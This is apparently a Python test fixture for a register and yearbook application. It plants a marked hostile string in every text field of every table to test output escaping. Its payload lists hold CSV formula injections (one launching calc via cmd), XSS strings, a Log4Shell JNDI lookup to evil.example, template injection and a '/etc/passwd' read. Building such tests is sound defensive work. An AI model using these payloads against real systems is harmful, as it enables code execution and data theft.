"""A region in which every text of every table is hostile: a formula, a script, a link, markup, a field code, a control
sequence. Each is told from all others by a mark at its end."""

from __future__ import annotations

import dataclasses
import re
from dataclasses import dataclass
from datetime import date
from functools import cache
from typing import Any

from tests.materials import crafted

from renkei.domain.indicator import Override
from renkei.domain.lineage import Descent
from renkei.domain.meeting import ALL_PARTS, AgendaItem, Attendee, Meeting, Paper
from renkei.domain.municipality import Organisation
from renkei.domain.opening import open_year
from renkei.domain.project import Cost, ProjectName
from renkei.domain.register import Register, ReportedCount, ReportedYear
from renkei.domain.yearbook import Yearbook
from renkei.exchange.assembly import assemble, records_of
from renkei.exchange.kinds import Reason, Text
from renkei.exchange.table import Column, Table, value_at
from renkei.exchange.tables import TABLES
from renkei.scales import preset

HOSTILE = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "{=1+1}",
    '=HYPERLINK("http://evil.example/","x")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<svg/onload=alert(3)>",
    "]]>",
    "</t></is></c>",
    "&lt;b&gt;",
    "<a href='javascript:alert(4)'>x</a>",
    "<!-- -->",
    "--><?php ?>",
    '#read("/etc/passwd")',
    "$ sqrt(2) $",
    '#link("http://evil.example/")',
    "\\input{x}",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{% raw %}",
    "{n} {0} %s",
    "[bold]x[/bold]",
    "[link=http://evil.example/]x[/link]",
    "PAGE\\*MERGEFORMAT",
    "javascript:alert(5)",
    "http://evil.example/",
    "file:///C:/x",
    "&A&P&G",
    "'quoted",
)
PROSE = (
    "![x](http://evil.example/x.png) [x](http://evil.example/ 'y')",
    "<http://evil.example/> [x](javascript:alert(6))",
    "[y]: http://evil.example/ <img src=x onerror=alert(7)>",
)
MARK = re.compile(r"q[0-9]{4}z")
_KEPT = {("photos", "file"), ("papers", "number"), ("agenda", "papers")}  # paths, and what is named elsewhere


@dataclass(frozen=True)
class Planted:
    """A hostile text, and where it was planted."""

    table: str
    heading: str
    text: str


class _Planting:
    def __init__(self) -> None:
        self.planted: dict[str, Planted] = {}

    def _next(self, column: Column) -> str:
        if column.prose:
            return PROSE[sum(one.heading == column.heading for one in self.planted.values()) % len(PROSE)]
        return HOSTILE[len(self.planted) % len(HOSTILE)]

    def record(self, table: Table, record: Any) -> Any:
        for column in table.columns:
            if not _is_planted(table, column, record):
                continue
            mark = f"q{len(self.planted):04}z"
            text = f"{self._next(column)} {mark}"
            if column.heading == "unit":  # stands on one line with its figure
                text = text.replace(" ", "")
            self.planted[mark] = Planted(table.name, column.heading, text)
            record = _with(record, column.path, text)
        return record


def _is_planted(table: Table, column: Column, record: Any) -> bool:
    if not isinstance(column.kind, Text) or (table.name, column.heading) in _KEPT:
        return False
    if isinstance(column.kind, Reason):
        return value_at(record, column.path.replace("missing", "value")) is None
    owner = column.path.rpartition(".")[0]
    return not owner or value_at(record, owner) is not None


def _with(record: Any, path: str, text: str) -> Any:
    owner, _, name = path.rpartition(".")
    if not owner:
        return dataclasses.replace(record, **{name: text})
    return dataclasses.replace(record, **{owner: dataclasses.replace(getattr(record, owner), **{name: text})})


def _region() -> Register:
    """A small region with rows in every table."""
    base = crafted.large(3, towns=3, comments=4)
    first, second, third = (project.id for project in base.projects)
    meeting = Meeting(
        2025, crafted.YEAR, 2026, date=date(2026, 1, 15), parts=ALL_PARTS, compares=2025, has_town_results=True,
        papers=(Paper("資料1", parts=("summary",)),), agenda=(AgendaItem("x", ("資料1",), "x", 5),),
        attendees=(Attendee(municipality=base.municipalities[1].code, post="x"), Attendee(affiliation="x", post="x")),
    )  # fmt: skip
    override = Override("B", "x", "y", "z", date(2025, 5, 1))
    results = (dataclasses.replace(base.results[1], override=override), *base.results[2:])
    earlier = tuple(dataclasses.replace(row, year=2025) for row in base.plan[:2])
    return dataclasses.replace(
        base, meetings=(meeting,), results=(base.results[0], *results), plan=(*earlier, *base.plan),
        organisations=(Organisation("o1", "x"),), names=(ProjectName(first, "x"),), costs=(Cost(first, crafted.YEAR, total=10_000),),
        lineage=(Descent(second, third, 2026),), reported_counts=(ReportedCount(2023, "r1", "A", 1),),
        reported_years=(ReportedYear(2023, 3, 3, 2, "66.7"),),
    )  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """The register, and what was planted in it, by mark."""

    register: Register
    planted: dict[str, Planted]


@cache
def hostile() -> Hostile:
    """The region with a hostile text in every text of every table."""
    planting = _Planting()
    records = records_of(_region())
    made = {table.name: [planting.record(table, row) for row in records[table.name]] for table in TABLES}
    register = assemble(made, readme="# <script>alert(8)</script>\n", files=_region().files)
    return Hostile(register, planting.planted)


@cache
def year() -> Yearbook:
    """Its year."""
    return open_year(hostile().register, crafted.YEAR, preset("aomori"))


def marks_as_written(shown: str) -> tuple[set[str], list[str]]:
    """Of what is shown: the marks that stand in it, and the places where a mark stands without its text before it.
    Spaces and line ends count for nothing, since papers break lines."""
    tight = "".join(shown.split())
    found, odd = set(), []
    for match in MARK.finditer(tight):
        mark = match.group()
        found.add(mark)
        wanted = "".join(hostile().planted[mark].text.split())
        if tight[max(match.end() - len(wanted), 0) : match.end()] != wanted:
            odd.append(f"{hostile().planted[mark]}: {tight[max(match.end() - 60, 0) : match.end()]}")
    return found, odd


def shown_columns(marks: set[str]) -> set[str]:
    """Where the marks were planted."""
    return {f"{hostile().planted[mark].table}.{hostile().planted[mark].heading}" for mark in marks}
